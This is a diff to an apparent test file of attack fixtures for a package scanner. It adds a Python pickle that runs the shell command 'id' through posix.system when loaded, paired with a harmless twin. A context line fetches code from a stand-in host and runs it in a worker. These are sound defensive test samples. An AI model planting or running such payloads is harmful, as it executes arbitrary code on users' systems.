@@ -598,6 +598,23 @@ const laterAttacks: Attack[] = [
       'cache.pkl': Uint8Array.from("(dp0\nS'size'\np1\nI3\ns.", (one) => one.charCodeAt(0)),
     },
   },
+  {
+    name: 'ships a pickle of the newer form that runs a command',
+    files: {
+      '__init__.py': '',
+      'cache.pkl': Uint8Array.from(
+        '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.',
+        (one) => one.charCodeAt(0),
+      ),
+    },
+    twin: {
+      '__init__.py': '',
+      'cache.pkl': Uint8Array.from(
+        '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x86\x94.',
+        (one) => one.charCodeAt(0),
+      ),
+    },
+  },
   script(
     'runs a downloaded text in a worker',
     'fetch("https://example.test/w").then((r) => r.text()).then((code) => new Worker(URL.createObjectURL(new Blob([code]))))',
